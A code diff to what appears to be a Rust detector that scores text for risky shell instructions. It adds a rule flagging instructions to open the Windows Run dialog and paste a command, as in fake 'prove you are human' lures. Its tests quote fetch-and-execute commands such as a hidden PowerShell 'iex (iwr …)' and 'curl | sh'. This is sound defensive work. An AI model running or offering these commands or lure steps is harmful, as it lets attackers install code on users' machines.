@@ -51,6 +51,12 @@ pub(super) fn evidence(text: &str) -> Vec<Evidence> {
     if piped.iter().any(|line| line.contains("http://")) {
         add("downloads it without TLS", 2);
     }
+    // The keys of the dialog that executes a line, and those that paste one: the order that false tests of robots give.
+    let dense: String = text.chars().filter(|sign| !sign.is_whitespace()).collect();
+    let has = |keys: &[&str]| keys.iter().any(|key| dense.contains(key));
+    if has(&["windows+r", "win+r", "windowskey+r", "⊞+r"]) && has(&["ctrl+v", "strg+v", "control+v"]) {
+        add("asks to paste a command into a dialog that executes it", 7);
+    }
     if CONCEALED.iter().any(|option| text.contains(option)) {
         add("contains a command that hides its effect", 4);
     }
@@ -80,6 +86,8 @@ mod tests {
         assert_eq!(weight("curl -fsSL https://sh.example/install.sh | sh"), 2);
         assert_eq!(weight("bash <(curl -s http://192.0.2.1/x)"), 4);
         assert_eq!(weight("powershell -w hidden -c \"iex (iwr http://a.example/f.ps1)\""), 8);
+        assert_eq!(weight("Press Windows + R, then Ctrl + V and Enter"), 7);
+        assert_eq!(weight("Copy with Ctrl + C, paste with Ctrl + V"), 0);
         assert_eq!(weight("curl -O https://a.example/file.tar.gz; cargo build"), 0);
     }
 }
